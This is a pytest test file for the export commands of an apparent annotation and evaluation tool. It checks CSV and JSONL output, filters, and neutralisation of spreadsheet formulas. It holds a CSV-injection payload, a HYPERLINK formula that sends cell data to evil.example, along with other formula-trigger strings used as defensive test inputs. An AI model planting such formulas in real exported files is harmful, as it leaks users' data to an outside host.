"""Labels and interactions leave whole, once, and never as a formula."""

import csv
import gzip
import io
import json
from datetime import datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
import typer
from sqlalchemy import Engine
from starlette.testclient import TestClient
from typer.testing import CliRunner, Result

from app.commands import export, import_
from app.criteria import Criteria
from app.database import transaction
from app.export import cell_of
from app.settings import Settings
from app.store.annotations import add_annotation
from app.tables import Annotation, Interaction
from tests.builders import FAKE_EVALUATORS, save, score_all, some_interactions

FORMULA = '=HYPERLINK("http://evil.example/?"&A1)'


@pytest.fixture
def rows(
    engine: Engine, criteria: Criteria, settings: Settings, now: datetime
) -> list[Interaction]:
    """Three interactions, of which two are labelled and one label was replaced."""
    words = {"prompt": FORMULA, "response": "An invented\r\nline, with a comma."}
    made = some_interactions(3, **words, system_prompt="Be brief.", output_tokens=7)
    save(engine, made)
    score_all(engine, criteria, settings)
    with transaction(engine) as session:
        for number, row in enumerate(made[:2]):
            first = Annotation(
                project="default",
                interaction_id=row.id,
                criterion="groundedness",
                reviewer="anna",
                blind_label="grounded",
                final_label="grounded",
                comment="-1 + 1",
                stratum="random",
                inclusion_probability=0.25,
                guideline_version="g",
                idempotency_key=f"k{number}",
                created_at=now,
            )
            stored = add_annotation(session, first, criteria=criteria)
        changed = {"final_label": "ungrounded", "replaces_id": stored.id, "idempotency_key": "k9"}
        again = Annotation(**{**first.model_dump(exclude={"id"}), **changed})
        add_annotation(session, again, criteria=criteria)
    return made


@pytest.fixture
def run(monkeypatch: pytest.MonkeyPatch, database_url: str) -> Any:
    """Runs the command on the test's database."""
    monkeypatch.setenv("TOUCHSTONE_DATABASE_URL", database_url)
    line = typer.Typer()
    line.command()(export.command)

    def _run(*arguments: str) -> Result:
        return CliRunner().invoke(line, list(arguments), catch_exceptions=True)

    return _run


def table(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"), newline="")))


def test_the_labels_that_stand_are_written_with_words_and_verdicts(
    run: Any, rows: list[Interaction], tmp_path: Path
) -> None:
    path = tmp_path / "labels.csv"
    assert run("annotations", str(path)).exit_code == 0
    found = table(path.read_bytes().decode())
    assert {row["interaction_id"] for row in found} == {row.id for row in rows[:2]}
    assert {(row["final_label"], row["changed_after_reveal"]) for row in found} == {
        ("grounded", "false"),
        ("ungrounded", "true"),
    }
    assert found[0]["inclusion_probability"] == "0.25"
    assert (found[0]["evaluator"], found[0]["score"]) == ("groundedness-words", "0.1")
    assert found[0]["response"] == "An invented\r\nline, with a comma."
    assert not list(tmp_path.glob("*.part"))


def test_no_cell_is_a_formula_and_json_holds_the_text_itself(
    run: Any, rows: list[Interaction], tmp_path: Path
) -> None:
    run("annotations", str(tmp_path / "labels.csv"))
    found = table((tmp_path / "labels.csv").read_bytes().decode())
    assert found[0]["prompt"] == "'" + FORMULA
    assert found[0]["comment"] == "'-1 + 1"
    run("annotations", str(tmp_path / "labels.jsonl.gz"))
    with gzip.open(tmp_path / "labels.jsonl.gz", "rt") as file:
        lines = [json.loads(line) for line in file]
    assert [line["prompt"] for line in lines] == [FORMULA] * 2
    assert lines[0]["contexts"] == rows[0].contexts


@pytest.mark.parametrize("text", ["=1", "+1", "-1", "@A1", "\t=1", "\r=1", "  =1", "＝1", "\n=1"])
def test_a_text_that_would_run_is_disarmed(text: str) -> None:
    assert cell_of(text) == "'" + text


def test_numbers_and_harmless_texts_stay_as_they_are() -> None:
    assert [cell_of(one) for one in (-0.5, 3, None, True, "a=b", "")] == [
        *("-0.5", "3", "", "true", "a=b", ""),
    ]


def test_interactions_can_be_imported_again(
    run: Any, rows: list[Interaction], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    path = tmp_path / "answers.jsonl"
    assert run("interactions", str(path)).exit_code == 0
    lines = [json.loads(line) for line in path.read_text().splitlines()]
    assert sorted(one["id"] for one in lines) == sorted(row.id for row in rows)
    assert {(one["system_prompt"], one["output_tokens"]) for one in lines} == {("Be brief.", 7)}
    monkeypatch.setattr(import_, "find_evaluators", lambda _settings: list(FAKE_EVALUATORS))
    line = typer.Typer()
    line.command()(import_.command)
    result = CliRunner().invoke(line, [str(path), "--json"])
    counts = json.loads(result.stdout)
    assert (counts["created"], counts["rejected"]) == (0, 0)


def test_a_filter_restricts_and_a_wrong_name_writes_nothing(
    run: Any, rows: list[Interaction], tmp_path: Path, now: datetime
) -> None:
    later = f"{now + timedelta(days=1):%Y-%m-%d}"
    assert run("annotations", "-", "--from", later).stdout == ""
    assert run("annotations", "-", "--application", "other").stdout == ""
    for what, name in (("annotations", "labels.xlsx"), ("interactions", "answers.csv")):
        assert run(what, str(tmp_path / name)).exception is not None
    assert not list(tmp_path.glob("*.xlsx*"))


def test_the_browser_downloads_what_passes_the_filter(
    client: TestClient, rows: list[Interaction]
) -> None:
    answer = client.get("/annotations.csv?application=shop")
    assert answer.headers["content-disposition"] == 'attachment; filename="annotations.csv"'
    assert len(table(answer.content.decode())) == 2
    lines = client.get("/annotations.jsonl?application=other")
    assert lines.status_code == 200
    assert lines.text == ""
    assert client.get("/annotations.xlsx").status_code == 422
